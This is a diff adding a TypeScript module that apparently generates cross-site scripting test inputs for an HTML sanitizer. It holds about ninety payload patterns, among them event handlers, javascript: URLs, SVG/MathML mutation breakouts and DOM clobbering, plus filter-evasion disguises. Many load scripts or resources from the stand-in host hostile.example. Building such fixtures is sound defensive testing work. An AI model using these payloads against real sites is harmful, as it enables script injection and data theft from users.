@@ -1,0 +1,121 @@
+/** Says that a script ran, and calls out: each snippet does it in its own way. */
+const run = (id: number): string => `document.documentElement.dataset.ran='${id}'`;
+const away = (id: number): string => `https://hostile.example/${id}`;
+
+type Snippet = (id: number) => string;
+
+/** Ways to run a script or to have something loaded, each in HTML that a page could hold. */
+const WAYS: readonly Snippet[] = [
+  (id) => `<script>${run(id)}</script>`,
+  (id) => `<script src="${away(id)}"></script>`,
+  (id) => `<script type="module">${run(id)}</script>`,
+  (id) => `<scr<script>ipt>${run(id)}</script>`,
+  (id) => `<img src="x" onerror="${run(id)}">`,
+  (id) => `<img src="${away(id)}" onload="${run(id)}">`,
+  (id) => `<img srcset="${away(id)} 1x, ${away(id)}/2 2x">`,
+  (id) => `<img data-src="${away(id)}" src="${away(id)}">`,
+  (id) => `<picture><source srcset="${away(id)}"><img alt="a"></picture>`,
+  (id) => `<svg onload="${run(id)}"></svg>`,
+  (id) => `<svg><script>${run(id)}</script></svg>`,
+  (id) => `<svg><image href="${away(id)}"/></svg>`,
+  (id) => `<svg><use href="${away(id)}#a"/></svg>`,
+  (id) => `<svg><a xlink:href="javascript:${run(id)}"><text>甲</text></a></svg>`,
+  (id) => `<svg><animate onbegin="${run(id)}" attributeName="x" dur="1s"/></svg>`,
+  (id) => `<svg><set attributeName="href" to="javascript:${run(id)}"/></svg>`,
+  (id) => `<svg><foreignObject><iframe srcdoc="<script>${run(id)}</script>"></iframe></foreignObject></svg>`,
+  (id) => `<svg><style><img src=x onerror="${run(id)}"></style></svg>`,
+  (id) => `<svg></p><style><a title="</style><img src=x onerror=${run(id)}>">`,
+  (id) =>
+    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run(id)}&gt;">`,
+  (id) => `<math href="javascript:${run(id)}">甲</math>`,
+  (id) => `<math><maction actiontype="statusline#${away(id)}">甲</maction></math>`,
+  (id) => `<a href="javascript:${run(id)}">甲</a>`,
+  (id) => `<a href="jAvAsCrIpT&colon;${run(id)}">甲</a>`,
+  (id) => `<a href="java&#10;script:${run(id)}">甲</a>`,
+  (id) => `<a href="data:text/html,<script>${run(id)}</script>">甲</a>`,
+  (id) => `<a href="${away(id)}" ping="${away(id)}">甲</a>`,
+  (id) => `<iframe src="${away(id)}"></iframe>`,
+  (id) => `<iframe srcdoc="<img src='${away(id)}'>"></iframe>`,
+  (id) => `<iframe src="javascript:${run(id)}"></iframe>`,
+  (id) => `<frameset><frame src="${away(id)}"></frameset>`,
+  (id) => `<object data="${away(id)}"></object>`,
+  (id) => `<embed src="${away(id)}">`,
+  (id) => `<applet code="${away(id)}"></applet>`,
+  (id) => `<video src="${away(id)}" autoplay onloadstart="${run(id)}"></video>`,
+  (id) => `<video poster="${away(id)}"><source src="${away(id)}" onerror="${run(id)}"></video>`,
+  (id) => `<audio src="${away(id)}" autoplay oncanplay="${run(id)}"></audio>`,
+  (id) => `<track src="${away(id)}">`,
+  (id) => `<link rel="stylesheet" href="${away(id)}">`,
+  (id) => `<link rel="preload" as="image" href="${away(id)}">`,
+  (id) => `<link rel="dns-prefetch" href="${away(id)}">`,
+  (id) => `<link rel="prerender" href="${away(id)}">`,
+  (id) => `<meta http-equiv="refresh" content="0;url=${away(id)}">`,
+  (id) => `<meta http-equiv="refresh" content="0;url=javascript:${run(id)}">`,
+  (id) => `<base href="${away(id)}/">`,
+  (id) => `<style>@import "${away(id)}";</style>`,
+  (id) => `<style>body { background: url(${away(id)}) }</style>`,
+  (id) => `<p style="background: url(${away(id)})">甲</p>`,
+  (id) => `<p style="background: image-set('${away(id)}' 1x)">甲</p>`,
+  (id) => `<p style="content: url(${away(id)}); list-style: url(${away(id)})">甲</p>`,
+  (id) => `<div style="width: expression(${run(id)})">甲</div>`,
+  (id) => `<table background="${away(id)}"><tr><td background="${away(id)}">甲</td></tr></table>`,
+  (id) => `<body background="${away(id)}" onload="${run(id)}">`,
+  (id) => `<form action="javascript:${run(id)}"><button>甲</button></form>`,
+  (id) => `<form id="f${id}"></form><button form="f${id}" formaction="javascript:${run(id)}">甲</button>`,
+  (id) => `<input type="image" src="${away(id)}" onerror="${run(id)}">`,
+  (id) => `<input autofocus onfocus="${run(id)}">`,
+  (id) => `<select autofocus onfocus="${run(id)}"></select>`,
+  (id) => `<p contenteditable autofocus onfocus="${run(id)}" tabindex="0">甲</p>`,
+  (id) => `<details open ontoggle="${run(id)}"><summary>甲</summary></details>`,
+  (id) => `<div popover id="p${id}" onbeforetoggle="${run(id)}">甲</div>`,
+  (id) => `<marquee onstart="${run(id)}">甲</marquee>`,
+  (id) => `<p onmouseover="${run(id)}" onclick="${run(id)}" onpointerrawupdate="${run(id)}">甲</p>`,
+  (id) => `<p style="animation: a 1s" onanimationstart="${run(id)}">甲</p>`,
+  (id) => `<p style="transition: all 1s" ontransitionrun="${run(id)}">甲</p>`,
+  (id) => `<template><script>${run(id)}</script></template>`,
+  (id) => `<template shadowrootmode="open"><img src="${away(id)}"></template>`,
+  (id) => `<noscript><p title="</noscript><img src=x onerror=${run(id)}>">`,
+  (id) => `<textarea><img title="</textarea><img src=x onerror=${run(id)}>"></textarea>`,
+  (id) => `<title><a title="</title><img src=x onerror=${run(id)}>"></title>`,
+  (id) => `<xmp><p title="</xmp><img src=x onerror=${run(id)}>"></xmp>`,
+  (id) => `<noembed><img title="</noembed><img src=x onerror=${run(id)}>"></noembed>`,
+  (id) => `<plaintext><img src=x onerror="${run(id)}">`,
+  (id) => `<!--><img src=x onerror="${run(id)}">-->`,
+  (id) => `<!--[if gte IE 4]><script>${run(id)}</script><![endif]-->`,
+  (id) => `<![CDATA[<img src=x onerror="${run(id)}">]]>`,
+  (id) => `<?xml-stylesheet href="${away(id)}"?><p>甲</p>`,
+  (id) => `<x-part is="script" onclick="${run(id)}"><slot name="${run(id)}">甲</slot></x-part>`,
+  (id) => `<form><input name="attributes"><input name="childNodes"><img src=x onerror="${run(id)}"></form>`,
+  (id) => `<a id="document"></a><a id="cookie" name="body" href="${away(id)}">甲</a>`,
+  (id) => `<img name="implementation"><img id="createElement" src="${away(id)}">`,
+  (id) => `<p data-gap onclick="${run(id)}"><img data-src="javascript:${run(id)}">甲</p>`,
+  (id) => `<figure data-gap="" data-src="javascript:${run(id)}"></figure>`,
+  (id) => `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run(id)}'/>">`,
+  (id) => `<img src="data:image/png;base64,AAAA&quot; onerror=&quot;${run(id)}">`,
+  (id) => `<img src="blob:${away(id)}" onerror="${run(id)}">`,
+  (id) => `<img data-src="${away(id)}&quot; onerror=&quot;${run(id)}" alt="&quot; onerror=&quot;${run(id)}">`,
+  (id) => `<speculationrules>{"prefetch":[{"urls":["${away(id)}"]}]}</speculationrules>`,
+  (id) => `<script type="speculationrules">{"prefetch":[{"urls":["${away(id)}"]}]}</script>`,
+  (id) => `<script type="importmap">{"imports":{"a":"${away(id)}"}}</script>`,
+  (id) => `<portal src="${away(id)}"></portal><fencedframe config="${away(id)}"></fencedframe>`,
+];
+
+/** Ways to write the same so that a filter might overlook it. */
+const DISGUISES: readonly ((html: string) => string)[] = [
+  (html) => html,
+  (html) =>
+    html.replace(/<(\/?)([a-z]+)/g, (_, slash: string, name: string) => `<${slash}${name.toUpperCase()}`),
+  (html) => html.replace(/<([a-z]+) /g, '<$1\n/\t'),
+  (html) => `<div><p>${html}</p></div>`,
+  (html) => `<table><tr>${html}</tr></table>`,
+  (html) => `<b><i>${html}</b></i>`,
+];
+
+/** So many hostile snippets, each other than the others, each with the number that its deed would tell. */
+export function hostileSnippets(count: number): string[] {
+  const all = DISGUISES.flatMap((disguise, round) =>
+    WAYS.map((way, index) => disguise(way(round * WAYS.length + index))),
+  );
+  if (all.length < count) throw new Error(`There are ${all.length} snippets alone`);
+  return all.slice(0, count);
+}
